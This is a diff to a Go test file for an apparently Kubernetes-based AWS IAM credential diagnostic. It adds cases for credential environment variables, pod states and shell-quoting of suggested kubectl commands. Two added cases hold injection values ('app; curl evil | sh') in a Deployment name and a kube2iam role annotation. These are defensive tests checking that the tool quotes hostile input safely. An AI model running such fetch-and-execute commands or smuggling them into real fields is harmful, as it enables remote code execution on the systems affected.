@@ -87,10 +87,19 @@ var brokenPods = map[string]situation{
 		f.Secret.Value.CreationTimestamp.Time = now
 		f.Pod.Value.OwnerReferences = []metav1.OwnerReference{{Kind: "Job", Name: "nightly", Controller: new(true)}}
 	}, "injection", "before its ServiceAccount asked", "job/nightly creates it again"},
-	"passed over":         {func(_ *testing.T, f *Facts) { unwired(f) }, "injection", "admission was not in force", "kubectl delete pod app-1"},
-	"with keys":           {setEnv("AWS_ACCESS_KEY_ID", "AKIA"), "container main", "AWS_ACCESS_KEY_ID (from env)", "remove"},
-	"with a web identity": {setEnv("AWS_WEB_IDENTITY_TOKEN_FILE", "/token"), "container main", "web identity", "remove"},
-	"with a profile":      {setEnv("AWS_PROFILE", "production"), "container main", "AWS_PROFILE", "remove"},
+	"passed over":                      {func(_ *testing.T, f *Facts) { unwired(f) }, "injection", "admission was not in force", "kubectl delete pod app-1"},
+	"with keys":                        {setEnv("AWS_ACCESS_KEY_ID", "AKIA"), "container main", "AWS_ACCESS_KEY_ID (from env)", "remove"},
+	"with a web identity":              {setEnv("AWS_WEB_IDENTITY_TOKEN_FILE", "/token"), "container main", "web identity", "remove"},
+	"with a profile":                   {setEnv("AWS_PROFILE", "production"), "container main", "AWS_PROFILE", "remove"},
+	"with a profile by its other name": {setEnv("AWS_DEFAULT_PROFILE", "production"), "container main", "AWS_DEFAULT_PROFILE", "remove"},
+	"of a hostile owner": {func(_ *testing.T, f *Facts) {
+		unwired(f)
+		f.Pod.Value.OwnerReferences = []metav1.OwnerReference{{Kind: "Deployment", Name: "app; curl evil | sh", Controller: new(true)}}
+	}, "injection", "admission was not in force", "kubectl rollout restart 'deployment/app; curl evil | sh' --namespace demo"},
+	"of kube2iam, and hostile": {func(_ *testing.T, f *Facts) {
+		f.Account.Value.Annotations = nil
+		f.Pod.Value.Annotations = map[string]string{"iam.amazonaws.com/role": "app'; curl evil | sh"}
+	}, "serviceaccount", "for kube2iam and kiam", `iam.amazonaws.com/role='app'\''; curl evil | sh'`},
 	"with another file":   {setEnv("AWS_SHARED_CREDENTIALS_FILE", "/elsewhere"), "container main", "and not /meta/aws-iam/credentials.process", "remove"},
 	"with another config": {setEnv("AWS_CONFIG_FILE", "/elsewhere"), "container main", "AWS_CONFIG_FILE", "remove"},
 	"with keys in a Secret": {func(_ *testing.T, f *Facts) {
@@ -161,6 +170,15 @@ func TestWhatWorksAndIsStillWorthAWord(t *testing.T) {
 			f.Pod.Value.Status.Phase = corev1.PodPending
 			f.PodEvents.Value = []corev1.Event{event("Warning", "FailedMount", `secret "app.aws-iam" not found`, now)}
 		}, "kubelet", "not looked for the Secret again", "two minutes"},
+		"a program that fails first": {func(_ *testing.T, f *Facts) {
+			f.Pod.Value.Status.InitContainerStatuses = []corev1.ContainerStatus{{Name: "migrate", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff"}}}}
+		}, "kubelet", "the container migrate does not run: CrashLoopBackOff", "kubectl describe"},
+		"a pod that waits for something else": {func(_ *testing.T, f *Facts) {
+			f.Pod.Value.Status.Phase = corev1.PodPending
+			f.PodEvents.Value = []corev1.Event{event("Warning", "FailedMount", `configmap "settings" not found`, now), event("Normal", "Scheduled", "to a node", now)}
+		}, "kubelet", `pending for 60m: FailedMount: configmap "settings" not found`, "kubectl describe"},
+		"a pod that is going":       {func(_ *testing.T, f *Facts) { f.Pod.Value.DeletionTimestamp = &metav1.Time{Time: now} }, "kubelet", "is being deleted", "kubectl get pods"},
+		"a file that old SDKs read": {setEnv("AWS_CREDENTIAL_PROFILES_FILE", "/elsewhere"), "container main", "AWS_CREDENTIAL_PROFILES_FILE", "remove"},
 		"a program that fails": {status(corev1.ContainerStatus{Name: "main", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff"}}}),
 			"kubelet", "CrashLoopBackOff", "kubectl describe"},
 	} {
